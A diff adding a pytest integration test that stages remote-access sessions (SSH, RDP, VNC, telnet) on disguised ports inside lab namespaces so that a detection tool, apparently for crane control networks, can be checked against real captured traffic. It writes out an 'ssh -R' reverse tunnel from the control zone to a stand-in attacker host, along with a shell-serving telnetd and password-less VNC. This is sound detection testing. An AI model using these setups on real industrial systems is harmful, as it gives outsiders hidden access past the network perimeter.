@@ -1,0 +1,358 @@
+"""Remote access made by real stacks, captured with tcpdump, judged by ``cranewatch analyze``.
+
+The byte-literal tests (test_proto_remote.py, test_detect_remote_access.py) check the decoders
+against the specs; here the bytes come from the programs attackers and field engineers use:
+OpenSSH (inbound on 443, and a reverse tunnel ``ssh -R`` from the crane out over 443), xrdp
+with FreeRDP's ``xfreerdp`` (3389 and 443), TigerVNC's server with ``vncsnapshot`` (5900 and
+8080) and GNU inetutils telnetd with its telnet client (23 and 2323). Each session runs once,
+on the standard port and on a port that belongs to another protocol, inbound from the
+terminal LAN or from outside.
+
+Topology (namespaces ``cwrem-*``, created and removed here; tcpdump runs in the router on its
+crane-side leg, so the capture is what a tap on the crane uplink would see):
+
+    cwrem-crane 10.20.7.10 (plc: sshd, telnetd, VNC on 8080), 10.20.7.30 (cms: xrdp, VNC)
+        │ 10.20.7.254
+    cwrem-rt ── 198.51.100.1 ── cwrem-out 198.51.100.7 (attacker / vendor: sshd on 443)
+        │ 10.20.0.254
+    cwrem-term 10.20.0.50 (the EWS)
+
+Every expected value is independent of cranewatch: which session ran comes from the client's
+own output (the remote shell's answer, the tunnel's echo, the snapshot file, FreeRDP's exit
+status), and the time a session first shows itself is tshark's first payload frame of that
+connection.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+pytestmark = pytest.mark.root
+
+REPO = Path(__file__).resolve().parents[1]
+NS = {"crane": "cwrem-crane", "term": "cwrem-term", "out": "cwrem-out", "rt": "cwrem-rt"}
+PLC, CMS, EWS, OUTSIDE = "10.20.7.10", "10.20.7.30", "10.20.0.50", "198.51.100.7"
+TOOLS = ("tcpdump", "tshark", "socat", "ssh", "ssh-keygen", "/usr/sbin/sshd", "/usr/sbin/telnetd",
+         "telnet", "Xtigervnc", "vncsnapshot", "xrdp", "xfreerdp", "Xvfb")
+SSH_OPTIONS = ("-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+               "-o", "BatchMode=yes", "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=5")
+
+
+@dataclass(frozen=True)
+class Session:
+    """One remote-access session the test made: who, to where, and what the client saw."""
+
+    name: str
+    protocol: str
+    client: str
+    server: str
+    port: int
+    severity: str
+    proof: str  # what the client printed or produced: the session really happened
+
+
+@dataclass
+class Captured:
+    pcap: Path
+    sessions: list[Session]
+    records: list[dict[str, Any]]
+
+    def findings(self, category: str) -> list[dict[str, Any]]:
+        return [r for r in self.records if r["type"] == "finding" and r["category"] == category]
+
+
+def ns_cmd(ns: str, *cmd: str) -> list[str]:
+    return ["ip", "netns", "exec", NS[ns], *cmd]
+
+
+def ip(*args: str) -> None:
+    subprocess.run(["ip", *args], check=True, capture_output=True, text=True)
+
+
+def remove_namespaces() -> None:
+    for name in NS.values():
+        for pid in subprocess.run(["ip", "netns", "pids", name], capture_output=True,
+                                  text=True).stdout.split():
+            os.kill(int(pid), signal.SIGKILL)  # only processes inside our own namespaces
+        subprocess.run(["ip", "netns", "del", name], capture_output=True)
+        shutil.rmtree(Path("/etc/netns") / name, ignore_errors=True)
+
+
+def build_topology() -> None:
+    remove_namespaces()  # leftovers of an interrupted run (only our own names)
+    for name in NS.values():
+        ip("netns", "add", name)
+        # No IPv6 (router solicitations add noise) and no DNS: telnetd looks its peer up, and
+        # a resolver that refuses on loopback answers at once and puts nothing on the wire.
+        subprocess.run(["ip", "netns", "exec", name, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1",
+                        "net.ipv6.conf.default.disable_ipv6=1"], check=True, capture_output=True)
+        etc = Path("/etc/netns") / name  # ``ip netns exec`` binds these over /etc
+        etc.mkdir(parents=True, exist_ok=True)
+        (etc / "resolv.conf").write_text("nameserver 127.0.0.1\n")
+    links = {"crane": ("cwrem-rc", "10.20.7.254", [PLC, CMS]),
+             "term": ("cwrem-rtm", "10.20.0.254", [EWS]),
+             "out": ("cwrem-ro", "198.51.100.1", [OUTSIDE])}
+    for side, (rt_if, rt_addr, addrs) in links.items():
+        ip("-n", NS["rt"], "link", "add", rt_if, "type", "veth", "peer", "name", "eth0", "netns", NS[side])
+        ip("-n", NS["rt"], "addr", "add", f"{rt_addr}/24", "dev", rt_if)
+        ip("-n", NS["rt"], "link", "set", rt_if, "up")
+        for addr in addrs:
+            ip("-n", NS[side], "addr", "add", f"{addr}/24", "dev", "eth0")
+        ip("-n", NS[side], "link", "set", "eth0", "up")
+        ip("-n", NS[side], "route", "add", "default", "via", rt_addr)
+    for name in NS.values():
+        ip("-n", name, "link", "set", "lo", "up")
+    subprocess.run(ns_cmd("rt", "sysctl", "-qw", "net.ipv4.ip_forward=1"), check=True)
+
+
+def wait_listening(ns: str, addr: str, port: int) -> None:
+    deadline = time.monotonic() + 15
+    while time.monotonic() < deadline:
+        out = subprocess.run(ns_cmd(ns, "ss", "-Hltn", f"sport = :{port}"),
+                             capture_output=True, text=True).stdout
+        if addr in out or "*:" in out:
+            return
+        time.sleep(0.05)
+    raise AssertionError(f"nothing listens on {addr}:{port} in {NS[ns]}")
+
+
+def run_client(ns: str, argv: list[str], *, timeout: float = 20, env: dict[str, str] | None = None,
+               shell_input: str | None = None) -> str:
+    done = subprocess.run(ns_cmd(ns, *argv), capture_output=True, text=True, timeout=timeout,
+                          env=env, input=shell_input)
+    assert done.returncode == 0, f"{argv[0]} failed ({done.returncode}): {done.stderr[-2000:]}"
+    return done.stdout
+
+
+def telnet_script(host: str, port: int) -> list[str]:
+    # The telnet client reads the keyboard from a pipe; the pauses let the server's prompt
+    # and option negotiation come first, as when a person types.
+    keys = "sleep 1; printf 'echo hoist-$((6*7))\\r\\n'; sleep 0.5; printf 'exit\\r\\n'; sleep 0.5"
+    return ["sh", "-c", f"({keys}) | telnet {host} {port}"]
+
+
+@pytest.fixture(scope="module")
+def captured(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Captured]:
+    if os.geteuid() != 0:
+        pytest.skip("needs root (network namespaces); CI runs as root")
+    missing = [tool for tool in TOOLS if shutil.which(tool) is None]
+    if missing:
+        pytest.fail(f"{', '.join(missing)} not installed: run scripts/install-deps.sh")
+    tmp = tmp_path_factory.mktemp("cwrem")
+    build_topology()
+    daemons: list[subprocess.Popen[bytes]] = []
+    try:
+        def start(ns: str, *cmd: str, pass_fds: tuple[int, ...] = ()) -> None:
+            with (tmp / f"{ns}-{len(daemons)}.log").open("wb") as log:
+                daemons.append(subprocess.Popen(ns_cmd(ns, *cmd), stdout=log, stderr=log,
+                                                pass_fds=pass_fds))
+
+        def start_x(ns: str, server: str, *options: str) -> str:
+            """An X server on a display it picks (``-displayfd`` on a pipe of its own: given
+            stdout or stderr it would close that and log into the next client's socket)."""
+            read_end, write_end = os.pipe()
+            start(ns, server, "-displayfd", str(write_end), "-nolisten", "tcp", *options,
+                  pass_fds=(write_end,))
+            os.close(write_end)
+            with os.fdopen(read_end) as pipe:
+                return ":" + pipe.readline().strip()
+
+        # OpenSSH on the PLC (22, and 443 where a firewall lets "HTTPS" in) and outside on 443
+        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(tmp / "hostkey")], check=True)
+        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(tmp / "key")], check=True)
+        shutil.copy(tmp / "key.pub", tmp / "authorized_keys")
+        common = (f"HostKey {tmp / 'hostkey'}\nPidFile none\nUsePAM no\nPasswordAuthentication no\n"
+                  f"StrictModes no\nAuthorizedKeysFile {tmp / 'authorized_keys'}\n")
+        (tmp / "sshd_plc").write_text(f"ListenAddress {PLC}\nPort 22\nPort 443\n{common}")
+        (tmp / "sshd_out").write_text(f"ListenAddress {OUTSIDE}\nPort 443\n{common}")
+        Path("/run/sshd").mkdir(exist_ok=True)  # sshd's privilege-separation directory
+        start("crane", "/usr/sbin/sshd", "-D", "-e", "-f", str(tmp / "sshd_plc"))
+        start("out", "/usr/sbin/sshd", "-D", "-e", "-f", str(tmp / "sshd_out"))
+        # telnetd is an inetd service: socat accepts and execs it on the socket (nofork)
+        for port in (23, 2323):
+            start("crane", "socat", f"TCP-LISTEN:{port},bind={PLC},reuseaddr,fork",
+                  "EXEC:/usr/sbin/telnetd -h -E /bin/sh,nofork")
+        # TigerVNC's X server with its VNC front end, no password (as found on HMIs)
+        for addr, port in ((CMS, 5900), (PLC, 8080)):
+            start_x("crane", "Xtigervnc", "-rfbport", str(port), "-interface", addr,
+                    "-SecurityTypes", "None", "-geometry", "320x240", "-depth", "24")
+        # xrdp (its own packaged config and certificate) on the CMS, on 3389 and on 443
+        ini = Path("/etc/xrdp/xrdp.ini").read_text().replace(
+            "\nport=3389\n", f"\nport=tcp://{CMS}:3389 tcp://{CMS}:443\n", 1)
+        (tmp / "xrdp.ini").write_text(ini)
+        Path("/run/xrdp/sockdir").mkdir(parents=True, exist_ok=True)
+        start("crane", "xrdp", "--nodaemon", "--config", str(tmp / "xrdp.ini"))
+        # FreeRDP's X11 client wants a display even for /auth-only
+        display = start_x("term", "Xvfb", "-screen", "0", "640x480x24")
+        for ns, addr, port in (("crane", PLC, 22), ("crane", PLC, 443), ("out", OUTSIDE, 443),
+                               ("crane", PLC, 23), ("crane", PLC, 2323), ("crane", CMS, 5900),
+                               ("crane", PLC, 8080), ("crane", CMS, 3389), ("crane", CMS, 443)):
+            wait_listening(ns, addr, port)
+
+        pcap = tmp / "remote.pcap"
+        tcpdump = subprocess.Popen(ns_cmd("rt", "tcpdump", "-i", "cwrem-rc", "-U", "-w", str(pcap)),
+                                   stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+        daemons.append(tcpdump)
+        assert tcpdump.stderr is not None
+        tcpdump.stderr.readline()  # "listening on cwrem-rc ...": the capture runs
+        sessions = make_sessions(tmp, display)
+        time.sleep(0.5)  # the last FIN/ACKs
+        tcpdump.send_signal(signal.SIGINT)
+        tcpdump.communicate(timeout=10)
+        done = subprocess.run([sys.executable, "-m", "cranewatch", "analyze", str(pcap), "--profile",
+                               str(REPO / "profiles" / "sts-07.toml"), "--format", "jsonl"],
+                              capture_output=True, text=True, timeout=60)
+        assert done.returncode == 0, done.stderr
+        yield Captured(pcap, sessions, [json.loads(line) for line in done.stdout.splitlines()])
+    finally:
+        for daemon in daemons:
+            daemon.terminate()
+        for daemon in daemons:
+            try:
+                daemon.wait(timeout=5)
+            except subprocess.TimeoutExpired:
+                daemon.kill()
+                daemon.wait()
+            if daemon.stderr is not None:
+                daemon.stderr.close()
+        remove_namespaces()
+
+
+def make_sessions(tmp: Path, display: str) -> list[Session]:
+    """Run every client once; return the sessions with the proof each client gave."""
+    sessions = []
+    ssh = [*SSH_OPTIONS, "-i", str(tmp / "key")]
+
+    out = run_client("out", ["ssh", *ssh, "-p", "443", f"root@{PLC}", "echo plc-shell-$((6*7))"])
+    sessions.append(Session("ssh-in-443", "ssh", OUTSIDE, PLC, 443, "critical", out))
+    # The reverse tunnel: the CMS calls out to 443 and offers the PLC's sshd back through it;
+    # outside, the attacker logs into the PLC over the tunnel (127.0.0.1:2222 there).
+    inner = " ".join(["ssh", *ssh, "-p", "2222", "root@127.0.0.1", "echo through-the-tunnel"])
+    out = run_client("crane", ["ssh", *ssh, "-b", CMS, "-o", "ExitOnForwardFailure=yes",
+                               "-R", f"127.0.0.1:2222:{PLC}:22", "-p", "443", f"root@{OUTSIDE}", inner])
+    sessions.append(Session("ssh-reverse-tunnel", "ssh", CMS, OUTSIDE, 443, "critical", out))
+
+    rdp_env = {**os.environ, "DISPLAY": display, "HOME": str(tmp)}  # FreeRDP keeps its cert store there
+    for name, ns, client, port, severity in (("rdp-3389", "term", EWS, 3389, "high"),
+                                              ("rdp-443", "out", OUTSIDE, 443, "critical")):
+        run_client(ns, ["xfreerdp", f"/v:{CMS}:{port}", "/u:engineer", "/p:not-the-password",
+                        "/cert:ignore", "/auth-only"], env=rdp_env)
+        sessions.append(Session(name, "rdp", client, CMS, port, severity, "xfreerdp exit 0"))
+
+    for name, ns, client, server, port, severity in (
+            ("vnc-5900", "term", EWS, CMS, 5900, "high"),
+            ("vnc-8080", "out", OUTSIDE, PLC, 8080, "critical")):
+        shot = tmp / f"{name}.jpg"
+        # raw encoding: TigerVNC answers a blank screen's first update with an empty rectangle
+        # under its default encodings, and vncsnapshot would wait for pixels that never come
+        # vncsnapshot names a server by display (":0" is 5900) or by "::port" beyond them
+        where = f"{server}:{port - 5900}" if 5900 <= port < 6000 else f"{server}::{port}"
+        run_client(ns, ["vncsnapshot", "-quiet", "-allowblank", "-encodings", "raw", where, str(shot)])
+        sessions.append(Session(name, "vnc", client, server, port, severity,
+                                f"{shot.stat().st_size} byte snapshot"))
+
+    for name, ns, client, port, severity in (("telnet-23", "term", EWS, 23, "high"),
+                                              ("telnet-2323", "out", OUTSIDE, 2323, "critical")):
+        out = run_client(ns, telnet_script(PLC, port))
+        sessions.append(Session(name, "telnet", client, PLC, port, severity, out))
+    return sessions
+
+
+SESSIONS = ("ssh-in-443", "ssh-reverse-tunnel", "rdp-3389", "rdp-443", "vnc-5900", "vnc-8080",
+            "telnet-23", "telnet-2323")
+
+
+def session(captured: Captured, name: str) -> Session:
+    (found,) = [s for s in captured.sessions if s.name == name]
+    return found
+
+
+def opening_times(pcap: Path, s: Session) -> set[int]:
+    """tshark's times (µs) of each side's first payload in the session's connection: the
+    messages that open the handshake (version strings, banners, option negotiation)."""
+    out = subprocess.run(
+        ["tshark", "-r", str(pcap), "-Y",
+         f"tcp.len>0 && ((ip.src=={s.client} && ip.dst=={s.server} && tcp.dstport=={s.port})"
+         f" || (ip.src=={s.server} && ip.dst=={s.client} && tcp.srcport=={s.port}))",
+         "-T", "fields", "-e", "ip.src", "-e", "frame.time_epoch"],
+        capture_output=True, text=True, check=True).stdout.split("\n")
+    first: dict[str, int] = {}
+    for line in filter(None, out):
+        src, epoch = line.split("\t")
+        seconds, _, fraction = epoch.partition(".")
+        first.setdefault(src, int(seconds) * 10**6 + int(fraction[:6].ljust(6, "0")))
+    assert set(first) == {s.client, s.server}, f"{s.name}: payload from {sorted(first)} only"
+    return set(first.values())
+
+
+def micros(iso: str) -> int:
+    moment = datetime.fromisoformat(iso.replace("Z", "+00:00"))
+    return (moment - datetime(1970, 1, 1, tzinfo=UTC)) // timedelta(microseconds=1)
+
+
+def test_the_clients_really_logged_in(captured: Captured) -> None:
+    assert "plc-shell-42" in session(captured, "ssh-in-443").proof
+    assert "through-the-tunnel" in session(captured, "ssh-reverse-tunnel").proof
+    assert "hoist-42" in session(captured, "telnet-23").proof
+    assert "hoist-42" in session(captured, "telnet-2323").proof
+    assert [s.name for s in captured.sessions] == list(SESSIONS)
+
+
+def test_every_session_is_identified_by_its_protocol_not_its_port(captured: Captured) -> None:
+    flows = {r["protocol"]: r["flows"] for r in captured.records if r["type"] == "flow-summary"}
+    # the tunnelled login is inside the outer SSH connection: two SSH connections on the wire
+    assert {p: flows.get(p) for p in ("ssh", "rdp", "vnc", "telnet")} == {
+        "ssh": 2, "rdp": 2, "vnc": 2, "telnet": 2}
+    # 443 and 8080 carried no TLS or HTTP: the ports lied and identification saw it
+    assert "tls" not in flows and "http" not in flows
+
+
+@pytest.mark.parametrize("name", SESSIONS)
+def test_each_session_is_one_remote_access_finding(captured: Captured, name: str) -> None:
+    s = session(captured, name)
+    findings = [f for f in captured.findings("remote-access")
+                if f["src"] == s.client and f["dst"] == f"{s.server}:{s.port}"]
+    assert len(findings) == 1, [f["title"] for f in captured.findings("remote-access")]
+    (finding,) = findings
+    assert finding["title"].startswith(f"{s.protocol.upper()} session")
+    assert finding["severity"] == s.severity
+    assert finding["count"] == 1
+    (evidence,) = finding["evidence"]
+    assert evidence["values"]["protocol"] == s.protocol
+    # dated by the handshake's opening message of one side (the client's when the server's
+    # takes more than one segment to complete, as RFB's version + security types)
+    assert micros(finding["first_seen"]) in opening_times(captured.pcap, s)
+
+
+def test_no_other_remote_access_is_reported(captured: Captured) -> None:
+    assert len(captured.findings("remote-access")) == len(SESSIONS)
+
+
+def test_the_reverse_tunnel_is_called_one(captured: Captured) -> None:
+    (finding,) = [f for f in captured.findings("remote-access") if f["src"] == CMS]
+    assert "out of the crane zone" in finding["title"] and "reverse tunnel" in finding["title"]
+
+
+def test_what_each_handshake_told(captured: Captured) -> None:
+    details = {(f["src"], f["dst"]): " | ".join(f["evidence"][0]["values"]["detail"])
+               for f in captured.findings("remote-access")}
+    assert "OpenSSH_" in details[(OUTSIDE, f"{PLC}:443")]
+    # FreeRDP puts the user name in the X.224 cookie and asks for TLS and CredSSP (NLA)
+    assert "mstshash=engineer" in details[(EWS, f"{CMS}:3389")]
+    assert "credssp" in details[(OUTSIDE, f"{CMS}:443")]
+    assert "003.008" in details[(EWS, f"{CMS}:5900")]  # TigerVNC speaks RFB 3.8
+    # inetutils telnetd opens with DO TERMINAL-TYPE and friends; the client answers WILL
+    assert "terminal-type" in details[(EWS, f"{PLC}:23")]
